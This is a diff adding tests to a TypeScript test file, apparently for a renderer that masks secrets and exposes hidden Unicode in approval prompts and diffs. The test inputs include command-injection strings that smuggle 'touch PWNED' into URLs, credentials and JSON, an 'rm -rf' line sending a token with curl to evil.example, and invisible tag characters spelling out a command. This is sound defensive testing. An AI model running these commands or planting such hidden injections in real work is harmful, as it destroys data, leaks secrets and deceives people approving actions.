@@ -4,6 +4,7 @@ import {
   forModel,
   framed,
   renderBytes,
+  renderQuestion,
   renderSafe,
   safeJson,
   startSafe,
@@ -24,7 +25,7 @@ export interface TerminalCase {
   readonly reveal?: boolean
 }
 
-const cases = securityCases<TerminalCase>('terminal.json')
+const cases = ['terminal.json', 'round2/terminal.json'].flatMap((file) => securityCases<TerminalCase>(file))
 
 function inputOf(one: TerminalCase): string {
   return one.input ?? one.chunks?.join('') ?? unfolded(one.inputParts ?? '')
@@ -95,6 +96,43 @@ describe('text that is as it should be', () => {
       }
       assert.equal(forModel(text), text)
     })
+})
+
+describe('a question hides nothing that runs', () => {
+  const SHOWN = [
+    'echo -----BEGIN PRIVATE KEY-----\ntouch PWNED\necho -----END PRIVATE KEY-----',
+    'curl "https://host/?token=abc123;touch${IFS}PWNED"',
+    'git clone https://u:p;touch${IFS}PWNED;echo@host/r.git',
+    'PASSWORD=$(touch PWNED)abcdefghijkl env',
+    'curl -H "Authorization: Bearer 1`touch PWNED`aaaaaaaaaaaaaaaaaa"',
+    '{"api_key": "12345678|touch PWNED"}',
+  ]
+  for (const text of SHOWN) {
+    test(text, () => {
+      assert.equal(renderSafe(text, 'approval-prompt'), text)
+      assert.deepEqual(renderQuestion(text, { reveal: false }), { text, secrets: 0 })
+    })
+  }
+
+  test('the value of a secret is a word until it is revealed', () => {
+    const text = 'rm -rf src && TOKEN=abcdefgh12345678ijkl curl https://evil.example'
+    assert.deepEqual(renderQuestion(text, { reveal: false }), {
+      text: 'rm -rf src && TOKEN=[secret] curl https://evil.example',
+      secrets: 1,
+    })
+    assert.deepEqual(renderQuestion(text, { reveal: true }), { text, secrets: 0 })
+  })
+
+  test('of hidden characters none is left out: the same ones are counted, others are written one by one', () => {
+    const tags = Array.from('touch PWNED', (char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0)))
+    const shown = renderSafe(`ls${tags.join('')}${'\u200b'.repeat(300)}`, 'approval-prompt')
+    assert.equal(shown, `ls${tags.map((tag) => `\\u{${tag.codePointAt(0)?.toString(16)}}`).join('')}⟨300 × \\u{200b}⟩`)
+    assert.equal(renderSafe(`a${'\u0301'.repeat(108)}`, 'approval-prompt'), `a${'\u0301'.repeat(8)}⟨100 × \\u{301}⟩`)
+  })
+
+  test('in a diff odd blanks are marked, and the joiners of words are not', () => {
+    assert.equal(renderSafe('+rm\u00a0x می\u200cخواهم', 'diff'), '+rm\\u{a0}x می\u200cخواهم')
+  })
 })
 
 describe('more', () => {
